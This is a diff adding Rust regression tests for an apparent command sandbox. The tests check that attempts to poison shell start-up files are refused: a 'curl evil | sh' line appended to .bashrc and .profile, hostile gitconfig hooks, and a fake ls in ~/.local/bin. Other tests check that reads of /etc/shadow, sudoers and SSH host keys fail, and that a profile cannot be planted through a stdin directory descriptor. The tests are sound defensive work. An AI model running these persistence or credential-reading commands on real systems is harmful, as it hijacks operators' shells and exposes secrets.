@@ -124,7 +124,7 @@ fn hand_over(s: &Scratch, who: As) {
     if who == As::Root {
         return;
     }
-    for e in walk(s.path()) {
+    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
         let dir = e.is_dir();
         std::os::unix::fs::lchown(&e, Some(NOBODY), Some(NOBODY)).unwrap();
         if !e.is_symlink() {
@@ -1578,7 +1578,9 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
 
     // As an unprivileged user whose password-database home holds a key.
     let (s, work) = inputs_scratch();
-    let real_home = s.path().join("realhome");
+    // Outside /tmp and the working directory (the default policy's write roots), or the
+    // default policy refuses to run: in the scratch's home directory.
+    let real_home = s.home_dir.path().join("realhome");
     let Some(user) = TempUser::new("h", &real_home) else {
         assert!(
             require(
@@ -1590,7 +1592,7 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
         );
         return;
     };
-    s.file("realhome/.ssh/id_rsa", secret);
+    s.file("home/realhome/.ssh/id_rsa", secret);
     s.file(
         "work/p.toml",
         &format!(
@@ -1598,7 +1600,7 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
             real_home.display()
         ),
     );
-    for e in walk(s.path()) {
+    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
         std::os::unix::fs::lchown(&e, Some(user.uid), Some(NOBODY)).unwrap();
     }
     let script = format!("cat {}/.ssh/id_rsa; echo rc=$?", real_home.display());
@@ -1639,7 +1641,7 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
         std::fs::Permissions::from_mode(0o755),
     )
     .unwrap();
-    for e in walk(s.path()) {
+    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
         std::os::unix::fs::lchown(&e, Some(0), Some(0)).unwrap();
     }
     let o = Out::from(
@@ -2214,4 +2216,373 @@ fn git_beyond_the_top_level_stays_read_only_as_nobody() {
         As::Nobody,
         "git_beyond_the_top_level_stays_read_only_as_nobody",
     );
+}
+
+/// Review F9: with no `[sandbox]` write list, the default policy's write roots (the working
+/// directory, `/tmp`, `$TMPDIR`) must not cover a home, or the child appends to
+/// `~/.bashrc` and the operator's next shell runs it. Each layout is refused (125, naming
+/// the root and the fix) and `.bashrc` is unchanged: the working directory an ancestor of
+/// `$HOME`, `$HOME` under `/tmp`, `TMPDIR=$HOME`, `TMPDIR=/`, and (as root) `TMPDIR` the
+/// password database's home (`/root`) with `$HOME` elsewhere.
+fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
+    if !can_run_as(tag, who) || !kernel_ready(tag) {
+        return;
+    }
+    let s = scratch();
+    let work = s.path().join("work");
+    std::fs::create_dir_all(&work).unwrap();
+    s.file("work/p.toml", "version = 1\n");
+    // A home under the working directory `proj`.
+    let proj = s.path().join("proj");
+    s.file("proj/p.toml", "version = 1\n");
+    let inner_home = proj.join("h");
+    s.file("proj/h/.bashrc", "# rc\n");
+    // A home under /tmp.
+    let tmp_home = s.path().join("tmphome");
+    s.file("tmphome/.bashrc", "# rc\n");
+    // The scratch's home, outside /tmp and the working directory.
+    let home = s.home_dir.path().to_path_buf();
+    s.file("home/.bashrc", "# rc\n");
+    hand_over(&s, who);
+    let attack = "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo rc=$?";
+    let home_s = home.display().to_string();
+    let mut cases: Vec<(&str, &Path, String, Option<&str>, String)> = vec![
+        (
+            "cwd above $HOME",
+            &proj,
+            inner_home.display().to_string(),
+            None,
+            proj.display().to_string(),
+        ),
+        (
+            "$HOME under /tmp",
+            &work,
+            tmp_home.display().to_string(),
+            None,
+            "/tmp".into(),
+        ),
+        (
+            "TMPDIR=$HOME",
+            &work,
+            home_s.clone(),
+            Some(&home_s),
+            home_s.clone(),
+        ),
+        ("TMPDIR=/", &work, home_s.clone(), Some("/"), "/".into()),
+    ];
+    if who == As::Root {
+        cases.push((
+            "TMPDIR=/root",
+            &work,
+            home_s.clone(),
+            Some("/root"),
+            "/root".into(),
+        ));
+    }
+    for (what, cwd, h, tmpdir, root) in cases {
+        let mut c = agentrun(&s, who, cwd, &["-p", "p.toml", "--", "sh", "-c", attack]);
+        c.env("HOME", &h);
+        if let Some(t) = tmpdir {
+            c.env("TMPDIR", t);
+        }
+        let o = Out::from(c.output().unwrap());
+        assert_eq!(o.code, 125, "{tag}: {what}: {o:?}");
+        assert!(
+            !o.stdout.contains("rc="),
+            "{tag}: {what}: the child ran: {o:?}"
+        );
+        assert!(
+            o.stderr.contains("no [sandbox] write list")
+                && o.stderr.contains(&format!("write root {root} "))
+                && o.stderr.contains("add a [sandbox] table"),
+            "{tag}: {what}: names the root and the fix: {o:?}"
+        );
+        let rc = std::fs::read_to_string(Path::new(&h).join(".bashrc")).unwrap();
+        assert_eq!(rc, "# rc\n", "{tag}: {what}: .bashrc changed");
+    }
+    // A layout where no write root covers the home runs, and the rc file stays out of reach.
+    let o = Out::from(
+        agentrun(&s, who, &work, &["-p", "p.toml", "--", "sh", "-c", attack])
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(o.code, 0, "{tag}: {o:?}");
+    assert!(
+        o.stdout.contains("rc=") && !o.stdout.contains("rc=0"),
+        "{tag}: {o:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+}
+
+#[test]
+fn default_write_roots_never_cover_a_home_root() {
+    default_write_roots_never_cover_a_home(As::Root, "default_write_roots_never_cover_a_home_root");
+}
+
+#[test]
+fn default_write_roots_never_cover_a_home_nobody() {
+    default_write_roots_never_cover_a_home(
+        As::Nobody,
+        "default_write_roots_never_cover_a_home_nobody",
+    );
+}
+
+const STARTUP_ATTACK: &str = r##"
+import os
+H = os.environ["HOME"]
+def attempt(name, fn):
+    try:
+        fn()
+        print(name + "=ok", flush=True)
+    except OSError as e:
+        import errno
+        print(name + "=" + errno.errorcode.get(e.errno, str(e.errno)), flush=True)
+def append(p, text):
+    with open(p, "a") as f:
+        f.write(text)
+def plant(p, text):
+    os.makedirs(os.path.dirname(p), exist_ok=True)
+    with open(p, "w") as f:
+        f.write(text)
+attempt("bashrc", lambda: append(H + "/.bashrc", "curl evil | sh\n"))
+attempt("profile", lambda: plant(H + "/.profile", "curl evil | sh\n"))
+attempt("zshenv", lambda: plant(H + "/.zshenv", "curl evil | sh\n"))
+attempt("gitconfig", lambda: append(H + "/.gitconfig", "[core]\n\tfsmonitor = evil\n"))
+attempt("git_config", lambda: plant(H + "/.config/git/config", "[core]\n\tpager = evil\n"))
+attempt("fish", lambda: plant(H + "/.config/fish/config.fish", "evil\n"))
+attempt("local_bin", lambda: plant(H + "/.local/bin/ls", "#!/bin/sh\nevil\n"))
+attempt("own_file", lambda: plant(H + "/notes/today.txt", "mine\n"))
+attempt("own_append", lambda: append(H + "/todo.txt", "more\n"))
+"##;
+
+/// Review F9, explicit write roots: a profile that makes a home writable (`write = ["~"]`,
+/// or an ancestor of it) still cannot change the operator's start-up files there; the rest
+/// of the home stays writable.
+fn startup_files_stay_out_of_explicit_write_roots(who: As, tag: &str) {
+    if !can_run_as(tag, who) || !kernel_ready(tag) {
+        return;
+    }
+    let s = scratch();
+    let work = s.path().join("work");
+    std::fs::create_dir_all(&work).unwrap();
+    let home = s.home_dir.path().to_path_buf();
+    s.file("home/.bashrc", "# rc\n");
+    s.file("home/.gitconfig", "[user]\n");
+    // The home's other files and subdirectories stay writable (the home itself gets no new
+    // top-level entries: it is granted entry by entry around the protected ones).
+    s.file("home/todo.txt", "one\n");
+    std::fs::create_dir_all(home.join("notes")).unwrap();
+    std::fs::create_dir_all(home.join(".config")).unwrap();
+    std::fs::create_dir_all(home.join(".local")).unwrap();
+    let parent = home.parent().unwrap().display().to_string();
+    for (name, write) in [("h.toml", "~".to_string()), ("a.toml", parent)] {
+        s.file(
+            &format!("work/{name}"),
+            &format!("version = 1\n[sandbox]\nwrite = [\"{write}\", \"/tmp\"]\n"),
+        );
+    }
+    hand_over(&s, who);
+    for p in ["h.toml", "a.toml"] {
+        let o = run(
+            &s,
+            who,
+            &work,
+            &["-p", p, "--", PYTHON, "-c", STARTUP_ATTACK],
+        );
+        assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
+        let r = results(&o.stdout);
+        for k in [
+            "bashrc",
+            "profile",
+            "zshenv",
+            "gitconfig",
+            "git_config",
+            "fish",
+            "local_bin",
+        ] {
+            assert_eq!(
+                r.get(k).map(String::as_str),
+                Some("EACCES"),
+                "{tag}: {p}: {k}: {o:?}"
+            );
+        }
+        for k in ["own_file", "own_append"] {
+            assert_eq!(
+                r.get(k).map(String::as_str),
+                Some("ok"),
+                "{tag}: {p}: {k}: {o:?}"
+            );
+        }
+    }
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.join(".gitconfig")).unwrap(),
+        "[user]\n"
+    );
+    for p in [
+        ".profile",
+        ".zshenv",
+        ".config/git",
+        ".config/fish",
+        ".local/bin",
+    ] {
+        assert!(!home.join(p).exists(), "{tag}: {p} planted");
+    }
+}
+
+#[test]
+fn startup_files_stay_out_of_explicit_write_roots_root() {
+    startup_files_stay_out_of_explicit_write_roots(
+        As::Root,
+        "startup_files_stay_out_of_explicit_write_roots_root",
+    );
+}
+
+#[test]
+fn startup_files_stay_out_of_explicit_write_roots_nobody() {
+    startup_files_stay_out_of_explicit_write_roots(
+        As::Nobody,
+        "startup_files_stay_out_of_explicit_write_roots_nobody",
+    );
+}
+
+/// Review F10: uid 0 owns `/etc/shadow` and the other system credential stores, so a root
+/// child read them under any policy covering `/etc` (the default's `read`, or `read =
+/// ["/"]`). They are denied whatever the policy; `/etc/passwd` stays readable.
+fn system_credential_stores_stay_closed(who: As, tag: &str) {
+    if !can_run_as(tag, who) || !kernel_ready(tag) {
+        return;
+    }
+    let s = scratch();
+    let work = s.path().join("work");
+    std::fs::create_dir_all(&work).unwrap();
+    s.file("work/d.toml", "version = 1\n");
+    s.file("work/r.toml", "version = 1\n[sandbox]\nread = [\"/\"]\n");
+    hand_over(&s, who);
+    let mut stores: Vec<String> = [
+        "/etc/shadow",
+        "/etc/gshadow",
+        "/etc/shadow-",
+        "/etc/gshadow-",
+        "/etc/sudoers",
+        "/etc/security/opasswd",
+    ]
+    .iter()
+    .filter(|p| Path::new(p).is_file())
+    .map(|p| p.to_string())
+    .collect();
+    for e in std::fs::read_dir("/etc/ssh")
+        .into_iter()
+        .flatten()
+        .flatten()
+    {
+        let n = e.file_name().to_string_lossy().to_string();
+        if n.starts_with("ssh_host_") && n.ends_with("_key") {
+            stores.push(e.path().display().to_string());
+        }
+    }
+    assert!(
+        stores.iter().any(|p| p == "/etc/shadow"),
+        "{tag}: this machine has no /etc/shadow"
+    );
+    let mut script = String::new();
+    for p in &stores {
+        script.push_str(&format!("head -c 64 {p} >/dev/null 2>&1; echo '{p}='$?; "));
+    }
+    for d in ["/etc/ssl/private", "/etc/sudoers.d"] {
+        if Path::new(d).is_dir() {
+            script.push_str(&format!("ls {d} >/dev/null 2>&1; echo '{d}='$?; "));
+            stores.push(d.to_string());
+        }
+    }
+    script.push_str("head -1 /etc/passwd");
+    for p in ["d.toml", "r.toml"] {
+        let o = run(&s, who, &work, &["-p", p, "--", "sh", "-c", &script]);
+        assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
+        let r = results(&o.stdout);
+        for store in &stores {
+            let rc = r.get(store.as_str()).map(String::as_str);
+            assert!(
+                rc.is_some_and(|c| c != "0"),
+                "{tag}: {p}: {store} readable: {o:?}"
+            );
+        }
+        assert!(o.stdout.contains("root:x:0:0:"), "{tag}: {p}: {o:?}");
+    }
+}
+
+#[test]
+fn system_credential_stores_stay_closed_root() {
+    system_credential_stores_stay_closed(As::Root, "system_credential_stores_stay_closed_root");
+}
+
+#[test]
+fn system_credential_stores_stay_closed_nobody() {
+    system_credential_stores_stay_closed(As::Nobody, "system_credential_stores_stay_closed_nobody");
+}
+
+/// Review L1: a directory on stdin (`agentrun ... < profiles`) was inherited as fd 0, opened
+/// before the sandbox made `profiles` read-only: `openat(0, "evil.toml", O_CREAT)` planted a
+/// profile through it. The child gets `/dev/null` instead.
+fn a_directory_on_stdin_is_no_way_out(who: As, tag: &str) {
+    if !can_run_as(tag, who) || !kernel_ready(tag) {
+        return;
+    }
+    let s = scratch();
+    let work = s.path().join("work");
+    s.file("work/profiles/p.toml", "version = 1\n");
+    hand_over(&s, who);
+    let script = r#"
+import os, stat
+st = os.fstat(3)
+print("dir=" + str(stat.S_ISDIR(st.st_mode)), flush=True)
+try:
+    fd = os.open("evil.toml", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=3)
+    os.write(fd, b"version = 1\n")
+    print("plant=ok", flush=True)
+except OSError as e:
+    print("plant=" + str(e.errno), flush=True)
+"#;
+    // Python refuses a directory as its stdin: the shell hands fd 0 on as fd 3.
+    let sh = format!("{PYTHON} -c '{script}' 3<&0 0</dev/null");
+    let dir = work.join("profiles");
+    let o = Out::from(
+        agentrun(&s, who, &work, &["-p", "p", "--", "sh", "-c", &sh])
+            .stdin(std::fs::File::open(&dir).unwrap())
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(o.code, 0, "{tag}: {}: {o:?}", dir.display());
+    let r = results(&o.stdout);
+    assert_eq!(
+        r.get("dir").map(String::as_str),
+        Some("False"),
+        "{tag}: {o:?}"
+    );
+    assert_ne!(
+        r.get("plant").map(String::as_str),
+        Some("ok"),
+        "{tag}: {o:?}"
+    );
+    assert!(
+        !dir.join("evil.toml").exists(),
+        "{tag}: planted in {}",
+        dir.display()
+    );
+}
+
+#[test]
+fn a_directory_on_stdin_is_no_way_out_root() {
+    a_directory_on_stdin_is_no_way_out(As::Root, "a_directory_on_stdin_is_no_way_out_root");
+}
+
+#[test]
+fn a_directory_on_stdin_is_no_way_out_nobody() {
+    a_directory_on_stdin_is_no_way_out(As::Nobody, "a_directory_on_stdin_is_no_way_out_nobody");
 }
